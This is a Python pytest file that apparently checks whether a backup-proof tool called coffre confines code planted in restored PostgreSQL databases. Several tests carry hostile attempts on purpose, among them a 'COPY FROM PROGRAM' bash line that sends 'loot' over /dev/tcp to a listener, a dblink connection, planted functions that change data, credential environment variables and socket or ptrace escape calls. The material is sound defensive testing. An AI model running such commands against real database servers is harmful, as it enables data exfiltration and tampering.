"""A database's own code runs in the proof, and gets nowhere: no rights, no files, no network, no say."""

from __future__ import annotations

import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from coffre import wiring, workers
from coffre.databases.postgresql.connection import open_session
from coffre.databases.postgresql.seal import without_network
from coffre.databases.postgresql.server import EphemeralServer
from coffre.databases.postgresql.target import Target
from coffre.errors import CoffreError, QueryFailedError
from tests.integration.proof.conftest import Prove
from tests.support.postgres import create

HOSTILE = (Path(__file__).parent / "hostile.sql").read_text()
PLACES = {"check", "index", "generated", "view", "domain", "separate", "cast", "attach"}


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A server that somebody would like to reach."""
    with socket.create_server(("127.0.0.1", 0)) as made:
        made.settimeout(0.2)
        yield made


@pytest.fixture
def server_logs(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What the servers that were stopped had logged."""
    logs: list[str] = []
    stop = EphemeralServer.stop

    def keep_log(server: EphemeralServer) -> None:
        if server._log.is_file():
            logs.append(server._log.read_text())
        stop(server)

    monkeypatch.setattr(EphemeralServer, "stop", keep_log)
    return logs


def nobody_called(listener: socket.socket) -> bool:
    try:
        listener.accept()
    except TimeoutError:
        return True
    return False


def test_planted_functions_run_and_reach_nothing(
    server17: EphemeralServer, proven: Prove, listener: socket.socket, server_logs: list[str], tmp_path: Path
) -> None:
    file = Path(f"/tmp/coffre-loot-{tmp_path.name}")  # noqa: S108 - where the server may write
    port = str(listener.getsockname()[1])
    planted = HOSTILE.replace("{port}", port).replace("{file}", str(file))
    result = proven(create(server17, "hostile", planted))
    attacked = set(re.findall(r"attacked in ([a-z ]+), superuser (\w)", "".join(server_logs)))
    assert attacked == {(place, "f") for place in PLACES}
    assert not [reason for reason in result.reasons if "LOOT" in reason.message]
    assert (result.reasons, result.verdict) == ([], "proven")
    assert nobody_called(listener)
    assert not file.exists()


@pytest.mark.parametrize(
    ("deed", "code"),
    [
        ("DELETE FROM public.victims WHERE id = 1", "content-differs"),
        ("UPDATE public.victims SET id = -id", "content-differs"),
        ("INSERT INTO public.victims VALUES (0)", "content-differs"),
        ("PERFORM lo_put(5001, 0, 'other')", "content-differs"),
        ("PERFORM setval('public.numbers', 99)", "sequence-differs"),
        ("DROP VIEW public.names", "objects-missing"),
    ],
)
def test_code_that_changes_what_was_restored_makes_the_proof_fail(
    server17: EphemeralServer, proven: Prove, deed: str, code: str
) -> None:
    name = f"swayed {deed[:12]}"
    body = f"BEGIN IF current_database() = 'proof' THEN {deed}; END IF; RETURN $1; END"
    made = create(
        server17,
        name,
        "CREATE SEQUENCE numbers",
        "CREATE TABLE victims AS SELECT n AS id FROM generate_series(1, 9000) n",
        "CREATE VIEW names AS SELECT id FROM victims",
        "SELECT lo_from_bytea(5001, 'bytes')",
        f"CREATE FUNCTION really(int) RETURNS int LANGUAGE plpgsql AS $$ {body} $$",
        "CREATE FUNCTION deed(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS "
        "$$ BEGIN RETURN public.really($1); END $$",
        "CREATE TABLE swaying AS SELECT 1 AS id; CREATE INDEX ON swaying (deed(id))",
    )
    result = proven(made)
    assert (result.verdict, result.reasons[0].code) == ("failed", code)


def test_not_even_a_superuser_of_a_sealed_server_reaches_the_network(
    postgres_root: Path, scratch_root: Path, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    with EphemeralServer.start(postgres_root, 17, scratch_root, sealed=True) as server:
        boot = Target(str(server.socket_dir), server.port, server.superuser, "postgres", sslmode="disable")
        with open_session(boot, seconds=60) as session:
            session.run("SET search_path = public")
            session.run("CREATE TABLE said (line text)")
            session.run("CREATE EXTENSION dblink")
            with pytest.raises(CoffreError, match="could not establish"):
                session.run(f"SELECT dblink_connect('host=127.0.0.1 port={port} connect_timeout=2')")
            with pytest.raises(QueryFailedError, match="SQLSTATE 38000"):
                session.run(f"COPY said FROM PROGRAM 'bash -c \"echo loot > /dev/tcp/127.0.0.1/{port}\"'")
            session.run("COPY said FROM PROGRAM 'echo programs run'")
    assert nobody_called(listener)


def test_a_proofs_workers_hold_no_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    started: dict[str, str] = {}
    monkeypatch.setattr(workers, "WorkerPool", lambda *_, environment: started.update(environment))
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_LAMBDA_RUNTIME_API"):
        monkeypatch.setenv(name, "loot")
    for name in ("COFFRE_STACK", "COFFRE_BUCKET", "COFFRE_TABLE"):
        monkeypatch.setenv(name, "coffre")
    wiring.settings.cache_clear()
    wiring.prove_services().start_workers([{"task": "load"}], lambda: None)
    wiring.settings.cache_clear()
    assert "PATH" in started
    assert "loot" not in started.values()


@pytest.mark.parametrize(
    ("attempt", "allowed"),
    [
        ("socket.socket(socket.AF_UNIX)", True),
        ("socket.socket(socket.AF_INET)", False),
        ("socket.socket(socket.AF_INET6)", False),
        ("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)", False),
        ("assert ctypes.CDLL(None).syscall(425, 1, None) == 0", False),
        ("assert ctypes.CDLL(None).ptrace(0, 0, 0, 0) == 0", False),
        ("subprocess.run([sys.executable, '-c', 'import socket; socket.socket()'], check=True)", False),
    ],
)
def test_a_sealed_process_and_its_children_have_unix_sockets_only(attempt: str, *, allowed: bool) -> None:
    program = f"import ctypes, socket, subprocess, sys\n{attempt}"
    done = subprocess.run(
        [sys.executable, "-c", program],
        preexec_fn=without_network(),
        stderr=subprocess.DEVNULL,
        check=False,
    )
    assert (done.returncode == 0) == allowed
